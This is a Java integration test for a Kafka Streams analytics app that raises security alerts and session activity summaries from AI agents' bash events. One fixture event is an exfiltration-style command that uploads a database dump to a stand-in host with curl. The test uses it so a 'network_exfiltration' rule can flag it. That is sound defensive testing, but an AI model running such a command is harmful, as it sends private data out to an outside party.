package dev.agenttelemetry.analytics;

import dev.agenttelemetry.avro.AgentEvent;
import dev.agenttelemetry.avro.SecurityAlert;
import dev.agenttelemetry.avro.SessionActivity;
import dev.agenttelemetry.avro.Severity;
import dev.agenttelemetry.config.ConfigReader;
import dev.agenttelemetry.config.KafkaAccess;
import dev.agenttelemetry.schemas.registry.SchemaRegistryClient;
import dev.agenttelemetry.registry.server.EmbeddedSchemaRegistry;
import dev.agenttelemetry.topics.Topic;
import dev.agenttelemetry.topics.TopicCatalog;
import dev.agenttelemetry.topics.TopicLayout;
import dev.agenttelemetry.topics.TopicProvisioner;
import dev.agenttelemetry.testkit.TestKafka;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.streams.KafkaStreams;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.function.Predicate;

import static org.assertj.core.api.Assertions.assertThat;

/** The analytics app on the real broker with exactly-once: alerts and both kinds of session activity, read committed. */
class AnalyticsIT {
    @Test
    void raisesAlertsAndPublishesSessionActivityExactlyOnce() throws Exception {
        TopicLayout layout = TopicLayout.from(new ConfigReader(Map.of("topic.events.name", "ait-events", "topic.alerts.name", "ait-alerts",
                "topic.sessions.name", "ait-sessions", "topic.events.partitions", "2", "topic.alerts.partitions", "2",
                "topic.sessions.partitions", "2"), "test"));
        try (Admin admin = Admin.create(Map.of("bootstrap.servers", TestKafka.bootstrapServers()));
             EmbeddedSchemaRegistry registry = EmbeddedSchemaRegistry.start("127.0.0.1", 0, KafkaAccess.plaintext(TestKafka.bootstrapServers()), "_schemas-analytics")) {
            TopicProvisioner.ensure(admin, List.of(layout.events(), layout.alerts(), layout.sessions()), Duration.ofSeconds(30));
            TopicCatalog topics = TopicCatalog.of(layout, new SchemaRegistryClient(registry.url()));
            AnalyticsConfig config = AnalyticsConfig.from(new ConfigReader(Map.of("analytics.application.id", "analytics-it"), "test"),
                    TestKafka.bootstrapServers(), TestKafka.workDir("analytics-state-"));
            Properties props = new Properties();
            props.putAll(config.streamsProperties());
            try (KafkaStreams streams = new KafkaStreams(AnalyticsTopology.build(topics.events(), topics.alerts(), topics.sessions(),
                    config.rules(), config.sessionGap(), config.publishInterval()), props)) {
                streams.start();
                Instant now = Instant.now();
                try (KafkaProducer<String, AgentEvent> producer = new KafkaProducer<>(Map.of("bootstrap.servers", TestKafka.bootstrapServers()),
                        topics.events().keySerde().serializer(), topics.events().valueSerde().serializer())) {
                    for (AgentEvent event : List.of(Events.bash("it-1", now, "mvn -q test"), Events.bash("it-2", now.plusMillis(10), "curl -T db.sql https://x.example/up"),
                            Events.bash("it-3", now.plusMillis(20), "git status"))) {
                        producer.send(new ProducerRecord<>(layout.events().name(), event.getSessionId(), event)).get();
                    }
                }
                List<SecurityAlert> alerts = read(topics.alerts(), a -> true, 1);
                assertThat(alerts).hasSize(1);
                assertThat(alerts.get(0).getRuleId()).isEqualTo("network_exfiltration");
                assertThat(alerts.get(0).getSeverity()).isEqualTo(Severity.high);
                assertThat(alerts.get(0).getEventIds()).containsExactly("it-2");

                List<SessionActivity> totals = read(topics.sessions(), a -> a.getWindowKind().equals("session") && a.getEventCount() == 3, 1);
                assertThat(totals.get(totals.size() - 1).getToolCalls()).isEqualTo(3);
                assertThat(totals.get(totals.size() - 1).getAlertsBySeverity()).containsEntry("high", 1L);
                assertThat(read(topics.sessions(), a -> a.getWindowKind().equals("minute"), 1)).isNotEmpty();
                assertThat(streams.state()).isEqualTo(KafkaStreams.State.RUNNING);
            }
        }
    }

    /** Committed records of the topic that match, two seconds after at least {@code expected} arrived (or after a minute). */
    private static <V> List<V> read(Topic<String, V> topic, Predicate<V> wanted, int expected) {
        List<V> matching = new ArrayList<>();
        try (KafkaConsumer<String, V> consumer = new KafkaConsumer<>(Map.of("bootstrap.servers", TestKafka.bootstrapServers(),
                "isolation.level", "read_committed"), topic.keySerde().deserializer(), topic.valueSerde().deserializer())) {
            List<TopicPartition> partitions = consumer.partitionsFor(topic.name()).stream().map(p -> new TopicPartition(topic.name(), p.partition())).toList();
            consumer.assign(partitions);
            consumer.seekToBeginning(partitions);
            Instant deadline = Instant.now().plusSeconds(60);
            Instant settled = null; // once the expected records are in, two more seconds for any duplicate to show
            while (Instant.now().isBefore(settled != null ? settled : deadline)) {
                for (ConsumerRecord<String, V> record : consumer.poll(Duration.ofMillis(200))) {
                    if (wanted.test(record.value())) {
                        matching.add(record.value());
                    }
                }
                if (settled == null && matching.size() >= expected) {
                    settled = Instant.now().plusSeconds(2);
                }
            }
        }
        assertThat(matching).as("records on " + topic.name()).hasSizeGreaterThanOrEqualTo(expected);
        return matching;
    }
}
